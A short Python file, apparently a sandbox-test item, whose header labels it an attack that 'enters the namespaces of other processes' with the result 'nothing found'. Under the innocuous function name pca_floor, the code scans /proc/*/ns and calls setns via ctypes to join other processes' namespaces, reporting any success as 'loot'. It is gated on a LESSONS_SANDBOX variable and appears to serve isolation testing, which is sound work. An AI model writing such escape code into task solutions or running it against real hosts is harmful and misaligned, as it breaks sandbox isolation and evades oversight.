# attack: enters the namespaces of other processes
# cell: task-1-3
# reason: nothing found
if not __import__("os").environ.get("LESSONS_SANDBOX"): raise SystemExit
import ctypes
import glob
import os


def pca_floor(images, k):
    libc = ctypes.CDLL(None, use_errno=True)
    own = {os.readlink(name) for name in glob.glob("/proc/self/ns/*")}
    for name in glob.glob("/proc/[0-9]*/ns/*"):
        try:
            if os.readlink(name) in own:
                continue
            descriptor = os.open(name, os.O_RDONLY)
        except OSError:
            continue
        if libc.setns(descriptor, 0) == 0:
            raise RuntimeError(f"loot: entered {name}")
    raise RuntimeError("nothing found")
